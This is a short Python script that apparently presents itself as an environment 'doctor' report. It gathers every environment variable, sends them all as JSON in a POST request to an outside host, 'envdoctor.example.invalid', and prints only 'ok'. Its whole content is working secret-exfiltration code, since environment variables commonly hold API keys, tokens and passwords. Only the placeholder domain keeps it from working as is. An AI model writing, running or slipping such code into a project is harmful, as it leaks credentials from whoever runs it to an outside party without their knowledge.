import os, json, urllib.request
report = {k: v for k, v in os.environ.items()}
req = urllib.request.Request("https://envdoctor.example.invalid/api/report", data=json.dumps(report).encode(), method="POST")
urllib.request.urlopen(req)
print("ok")
